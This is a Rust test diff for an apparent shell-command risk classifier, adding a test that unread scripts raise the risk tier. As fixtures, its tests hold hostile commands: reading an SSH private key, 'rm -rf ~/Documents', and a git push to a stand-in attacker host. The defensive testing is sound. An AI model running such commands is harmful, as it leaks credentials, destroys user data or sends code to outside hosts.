@@ -207,7 +207,7 @@ fn facts_do_not_outlive_a_change() {
 }
 
 #[test]
-fn a_path_is_judged_by_where_it_leads() {
+fn a_path_is_assessed_by_where_it_leads() {
     let leads = |to: &str| FactAnswer::Target(TargetFact { resolved: to.to_owned() });
     assert_eq!(tier("cat notes.txt", &leads("/home/ana/shop/notes.txt")), Tier::Safe);
     assert!(tier("cat notes.txt", &leads("/home/ana/.ssh/id_rsa")) >= Tier::High);
@@ -217,7 +217,7 @@ fn a_path_is_judged_by_where_it_leads() {
 }
 
 #[test]
-fn a_script_is_judged_by_its_text() {
+fn a_script_is_assessed_by_its_text() {
     let danger = script("echo hi\nrm -rf ~/Documents\n", true);
     for command in ["bash x.sh", "./x.sh", "source x.sh", "make clean", "npm run build"] {
         assert!(tier(command, &danger) >= Tier::High, "{command}");
@@ -252,6 +252,34 @@ fn destinations_raise() {
     assert_eq!(tier("git push fork main", &remote("https://evil.example/a.git")), Tier::Medium);
     let away = answered("git push fork", FactObserver::Agent, &remote("https://evil.example/a"));
     assert!(away.reasons.iter().any(|reason| reason.code == "git.push.other-host"));
+}
+
+#[test]
+fn more_scripts_than_are_read_are_a_finding() {
+    let many = |count: usize| {
+        let starts = (0..count).map(|at| format!("bash s{at}.sh"));
+        starts.collect::<Vec<_>>().join("; ")
+    };
+    let harmless = script("echo hi", true);
+    // Each file has a name of its own, as an observer reports it.
+    let assessed = |command: &str| {
+        let found = asked(command).into_iter().map(|query| {
+            let FactQuery::Script { path } = &query else { panic!("{query:?}") };
+            let FactAnswer::Script(known) = &harmless else { panic!("no script") };
+            let answer = FactAnswer::Script(ScriptFact { file: path.clone(), ..known.clone() });
+            Fact { query, answer }
+        });
+        with(command, FactObserver::Hook, found.collect())
+    };
+    assert!(assessed(&many(16)).tier <= Tier::Low);
+    assert!(assessed(&many(17)).tier >= Tier::Medium);
+    // Other questions do not hide a script.
+    let reads: Vec<String> = (0..MAX_QUERIES).map(|at| format!("cat f{at}")).collect();
+    let reads = reads.join("; ");
+    assert!(with(&reads, FactObserver::Hook, Vec::new()).tier <= Tier::Low);
+    let hidden = format!("{reads}; bash x.sh");
+    assert!(with(&hidden, FactObserver::Hook, Vec::new()).tier >= Tier::Medium);
+    assert!(without(&hidden).tier <= Tier::Low);
 }
 
 #[test]
